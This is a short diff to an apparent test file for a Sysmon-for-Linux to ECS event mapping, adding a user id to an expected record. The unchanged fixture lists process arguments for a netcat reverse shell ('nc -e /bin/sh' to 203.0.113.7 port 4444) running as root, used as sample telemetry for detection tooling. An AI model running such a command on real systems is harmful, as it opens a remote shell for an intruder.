@@ -191,7 +191,7 @@ describe('Sysmon for Linux → ECS (integration shape, per the sysmon_linux pipe
         args: ['nc', '-e', '/bin/sh', '203.0.113.7', '4444'],
         parent: { pid: 4101, name: 'dash', executable: '/usr/bin/dash' },
       },
-      user: { name: 'root' },
+      user: { name: 'root', id: '0' },
     });
     expect(typeof ((events[0].process as Doc).parent as Doc).entity_id).toBe('string');
   });
